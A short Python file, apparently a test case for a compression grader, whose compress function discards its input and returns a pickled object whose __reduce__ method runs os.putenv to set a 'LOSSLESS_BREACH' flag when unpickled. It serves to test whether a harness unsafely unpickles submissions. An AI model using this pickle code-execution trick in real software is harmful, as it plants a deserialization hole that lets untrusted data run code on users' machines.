"""answer with an object that runs code where it is unpacked

Breach: it is unpacked.
"""

import os
import pickle

VERDICT = "WA"


class Bomb:
    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return os.putenv, ("LOSSLESS_BREACH", "1")


def compress(data: bytes) -> bytes:
    return pickle.dumps(Bomb())


def decompress(blob: bytes) -> bytes:
    return blob
